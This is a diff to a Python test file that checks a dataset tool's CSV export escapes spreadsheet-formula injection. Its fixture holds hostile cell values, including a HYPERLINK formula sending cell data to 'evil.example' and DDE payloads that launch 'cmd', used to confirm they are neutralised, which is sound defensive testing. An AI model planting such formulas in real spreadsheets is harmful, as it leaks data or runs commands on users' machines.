@@ -5,13 +5,17 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from unionstate.cli import main
 from unionstate.dataset import data_dir
 from unionstate.export import WRITERS, Writer, release_writers
+from unionstate.export.tables import columns, escape_cell, render_csv, unescape_cell
 from unionstate.model import RECORD_TYPES
 from unionstate.release import derived_files
 
@@ -103,3 +107,95 @@ def test_release_formats_have_distinct_paths() -> None:
     paths = [w.path for w in release_writers()]
     assert len(paths) == len(set(paths))
     assert {"jsonl", "json", "csv"} <= {w.name for w in release_writers()}
+
+
+# -- spreadsheet formulas ------------------------------------------------------------------
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@given(st.text())
+def test_escaped_cells_never_start_a_formula_and_round_trip(text: str) -> None:
+    cell = escape_cell(text)
+    assert not cell.startswith(TRIGGERS)
+    assert unescape_cell(cell) == text
+    if not text.startswith((*TRIGGERS, "'")):
+        assert cell == text  # ordinary text is untouched
+
+
+def _hostile(tmp_path: Path) -> Path:
+    """A valid dataset whose text fields start with formula triggers."""
+    lines = [
+        {"type": "dataset", "name": "t", "as_of": "2021-04-16"},
+        {
+            "type": "source",
+            "id": "source/a",
+            "url": "https://example.org/a",
+            "title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
+            "publisher": "+cmd|' /C calc'!A0",
+            "language": "en",
+            "quote": "@SUM(1+1)*cmd|' /C calc'!A0",
+        },
+        {
+            "type": "person",
+            "id": "person/p",
+            "names": [{"value": "-2+3+cmd|' /C calc'!A0", "lang": "en"}],
+            "notes": "'=already quoted",
+            "sources": ["source/a"],
+        },
+        {
+            "type": "event",
+            "id": "event/e",
+            "kind": "meeting",
+            "title": "\t=1+1",
+            "date": "2021-04-16",
+            "statuses": [{"status": "held", "date": "2021-04-16", "sources": ["source/a"]}],
+            "participants": [{"actor": "person/p"}],
+            "subjects": ["=oil"],
+            "sources": ["source/a"],
+        },
+    ]
+    p = tmp_path / "hostile.jsonl"
+    p.write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
+    return p
+
+
+def _cells(folder: Path) -> list[str]:
+    out = []
+    for f in sorted(folder.glob("*.csv")):
+        out += [c for row in csv.reader(io.StringIO(f.read_text("utf-8"), newline="")) for c in row]
+    return out
+
+
+def _assert_no_formula(folder: Path) -> None:
+    cells = _cells(folder)
+    assert '\'=HYPERLINK("https://evil.example/?"&A1,"click")' in cells
+    assert "'+cmd|' /C calc'!A0" in cells
+    assert "'-2+3+cmd|' /C calc'!A0" not in cells  # a name sits in a JSON cell...
+    assert "''=already quoted" in cells  # ...a leading quote is doubled...
+    assert "'\t=1+1" in cells
+    assert not [c for c in cells if c.startswith(TRIGGERS)]
+
+
+def test_convert_and_release_csvs_carry_no_formula(tmp_path: Path) -> None:
+    src = _hostile(tmp_path)
+    assert main(["convert", str(src), "--to", "csv", "--out", str(tmp_path / "c")]) == 0
+    _assert_no_formula(tmp_path / "c")
+    assert main(["export", str(src), "--to", "csv", "--out", str(tmp_path / "e")]) == 0
+    _assert_no_formula(tmp_path / "e")
+    out = tmp_path / "dist"
+    assert main(["release", str(src), "--version", "1.0.0", "--out", str(out)]) == 0
+    _assert_no_formula(out / "unionstate-data-1.0.0" / "csv")
+    assert main(["verify", str(out / "unionstate-data-1.0.0")]) == 0
+
+
+def test_every_csv_value_is_recovered(tmp_path: Path) -> None:
+    src = _hostile(tmp_path)
+    assert main(["convert", str(src), "--to", "csv", "--out", str(tmp_path / "c")]) == 0
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "c" / "sources.csv").read_text("utf-8"))))
+    assert unescape_cell(rows[0]["title"]) == '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    persons = list(csv.DictReader(io.StringIO((tmp_path / "c" / "persons.csv").read_text("utf-8"))))
+    assert unescape_cell(persons[0]["notes"]) == "'=already quoted"
+    cols = {c.name: c for c in columns("person")}
+    assert cols["notes"].render({"notes": "=x"}) == "'=x"
+    assert render_csv("person", []).startswith(b"id,")
